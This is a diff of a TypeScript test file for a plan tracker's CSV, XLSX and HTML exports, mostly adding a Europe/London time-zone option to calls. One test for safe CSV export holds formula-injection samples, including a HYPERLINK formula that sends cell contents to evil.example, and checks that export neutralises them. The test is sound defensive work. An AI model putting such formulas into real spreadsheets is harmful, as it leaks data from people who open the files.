@@ -18,7 +18,7 @@ let store: Store;
 
 beforeAll(async () => {
   store = await makeTestStore();
-  const result = await importPlan(store, FIXTURE, { clock: fixedClock('2023-10-02T09:00:00Z') });
+  const result = await importPlan(store, FIXTURE, { timeZone: 'Europe/London', clock: fixedClock('2023-10-02T09:00:00Z') });
   if (!result.ok) throw new Error(result.problems.join('\n'));
 });
 
@@ -32,7 +32,7 @@ async function recordUpdate(ref: string, brag: 'amber' | 'red' | 'green', narrat
 
 describe('CSV export', () => {
   it('starts with the contract columns and gives one row per action', async () => {
-    const csv = (await exportPlan(store, PLAN, 'csv', clock)) as string;
+    const csv = (await exportPlan(store, PLAN, 'csv', clock, { timeZone: 'Europe/London' })) as string;
     const rows = parse(csv) as string[][];
     expect(rows[0]!.slice(0, 12)).toEqual([
       'ref', 'area', 'group', 'action', 'leads', 'start', 'due', 'brag', 'last_update', 'updates', 'overdue', 'open_escalations',
@@ -52,6 +52,7 @@ describe('CSV export', () => {
   it('shows the live BRAG, last update, update count, latest narrative and open escalations', async () => {
     await recordUpdate('2.4', 'amber', 'Protocol drafted, waiting for ICB sign-off', '2024-01-10T11:00:00.000Z');
     const csv = (await exportPlan(store, PLAN, 'csv', clock, {
+      timeZone: 'Europe/London',
       openEscalationCount: (planId, ref) => (planId === PLAN && ref === '2.4' ? 2 : 0),
     })) as string;
     const [header, ...rows] = parse(csv) as string[][];
@@ -68,7 +69,7 @@ describe('CSV export', () => {
     await raise('u-first');
     await raise('u-second');
     await raise('u-second'); // the same cause again is not a new escalation
-    const [header, ...rows] = parse((await exportPlan(store, PLAN, 'csv', clock)) as string) as string[][];
+    const [header, ...rows] = parse((await exportPlan(store, PLAN, 'csv', clock, { timeZone: 'Europe/London' })) as string) as string[][];
     const open = (ref: string) => rows.find((r) => r[0] === ref)![header!.indexOf('open_escalations')];
     expect(open('3.5')).toBe('2');
     expect(open('3.4')).toBe('0');
@@ -76,13 +77,13 @@ describe('CSV export', () => {
 
   it('round-trips: importing the exported CSV with the same people and groups gives the same actions', async () => {
     const fresh = await makeTestStore();
-    await importPlan(fresh, FIXTURE, { clock });
+    await importPlan(fresh, FIXTURE, { timeZone: 'Europe/London', clock });
     const dir = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'pp-roundtrip-')), 'again');
     fs.mkdirSync(dir);
-    fs.writeFileSync(path.join(dir, 'actions.csv'), (await exportPlan(fresh, PLAN, 'csv', clock)) as string);
+    fs.writeFileSync(path.join(dir, 'actions.csv'), (await exportPlan(fresh, PLAN, 'csv', clock, { timeZone: 'Europe/London' })) as string);
     fs.copyFileSync(path.join(FIXTURE, 'people.csv'), path.join(dir, 'people.csv'));
     fs.copyFileSync(path.join(FIXTURE, 'groups.csv'), path.join(dir, 'groups.csv'));
-    const result = await importPlan(fresh, dir, { clock, newPlan: true });
+    const result = await importPlan(fresh, dir, { timeZone: 'Europe/London', clock, newPlan: true });
     if (!result.ok) throw new Error(result.problems.join('\n'));
     const strip = <T extends { planId: string }>(rows: T[]) => rows.map(({ planId: _p, ...rest }) => rest);
     expect(strip(await fresh.plans.listActions('again'))).toEqual(strip(await fresh.plans.listActions(PLAN)));
@@ -93,7 +94,7 @@ describe('CSV export', () => {
 describe('XLSX export', () => {
   it('lays the plan out as a tracker with BRAG cells filled in their colours', async () => {
     await recordUpdate('3.2', 'red', 'No progress: waiting for funding', '2024-01-11T11:00:00.000Z');
-    const bytes = (await exportPlan(store, PLAN, 'xlsx', clock)) as Buffer;
+    const bytes = (await exportPlan(store, PLAN, 'xlsx', clock, { timeZone: 'Europe/London' })) as Buffer;
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(bytes as unknown as ArrayBuffer);
     const sheet = wb.getWorksheet('Tracker')!;
@@ -124,7 +125,7 @@ describe('XLSX export', () => {
   });
 
   it('gives real date cells, an autofilter, BRAG as a list to pick from and summary counts as formulas', async () => {
-    const bytes = (await exportPlan(store, PLAN, 'xlsx', clock)) as Buffer;
+    const bytes = (await exportPlan(store, PLAN, 'xlsx', clock, { timeZone: 'Europe/London' })) as Buffer;
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(bytes as unknown as ArrayBuffer);
     const sheet = wb.getWorksheet('Tracker')!;
@@ -186,9 +187,9 @@ describe('CSV export safe to open', () => {
       at('1.4').evidence_of_impact = '@SUM(1+1)';
       at('1.5').note = 'Safe: =A1 in the middle is not a formula';
     });
-    const first = await importPlan(fresh, src, { clock });
+    const first = await importPlan(fresh, src, { timeZone: 'Europe/London', clock });
     if (!first.ok) throw new Error(first.problems.join('\n'));
-    const csv = (await exportPlan(fresh, PLAN, 'csv', clock)) as string;
+    const csv = (await exportPlan(fresh, PLAN, 'csv', clock, { timeZone: 'Europe/London' })) as string;
     const [header, ...rows] = parse(csv) as string[][];
     const cell = (ref: string, column: string) => rows.find((r) => r[0] === ref)![header!.indexOf(column)];
     expect(cell('1.1', 'action')).toBe('\'=HYPERLINK("https://evil.example/?q="&A1,"Click for the minutes")');
@@ -203,7 +204,7 @@ describe('CSV export safe to open', () => {
     fs.writeFileSync(path.join(dir, 'actions.csv'), csv);
     fs.copyFileSync(path.join(src, 'people.csv'), path.join(dir, 'people.csv'));
     fs.copyFileSync(path.join(src, 'groups.csv'), path.join(dir, 'groups.csv'));
-    const again = await importPlan(fresh, dir, { clock, newPlan: true });
+    const again = await importPlan(fresh, dir, { timeZone: 'Europe/London', clock, newPlan: true });
     if (!again.ok) throw new Error(again.problems.join('\n'));
     const strip = <T extends { planId: string }>(list: T[]) => list.map(({ planId: _p, ...rest }) => rest);
     expect(strip(await fresh.plans.listActions('again'))).toEqual(strip(await fresh.plans.listActions(PLAN)));
@@ -212,7 +213,7 @@ describe('CSV export safe to open', () => {
 
 describe('HTML export', () => {
   it('is a self-contained board paper with BRAG colours, overdue flags and a chart per group', async () => {
-    const html = (await exportPlan(store, PLAN, 'html', clock)) as string;
+    const html = (await exportPlan(store, PLAN, 'html', clock, { timeZone: 'Europe/London' })) as string;
     expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
     expect(html).not.toMatch(/<(link|script|img)\b/i);
     expect(html).not.toMatch(/(src|href)=["']?https?:/i);
